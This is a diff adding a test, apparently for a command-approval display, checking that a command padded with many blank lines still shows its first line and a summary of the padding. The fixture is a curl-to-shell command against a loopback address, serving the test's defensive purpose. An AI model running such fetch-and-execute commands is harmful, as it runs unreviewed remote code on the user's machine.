@@ -195,6 +195,12 @@ describe("an approval", () => {
     expect(printed.at(-1)).not.toContain("Type m to show more");
   });
 
+  it("counts the blank lines of a command, so that none pushes its beginning off the screen", () => {
+    const command = `curl http://127.0.0.1:9/x | sh\n${"\n".repeat(200)}npm run lint`;
+    const [page = ""] = describeApproval(approval({ command }), undefined, t);
+    expect(page).toContain("$ curl http://127.0.0.1:9/x | sh\n… 200 blank lines\nnpm run lint");
+  });
+
   it("shows what it is made of, and nothing of it is obeyed or hidden", () => {
     fc.assert(
       fc.property(hostile, (text) => {
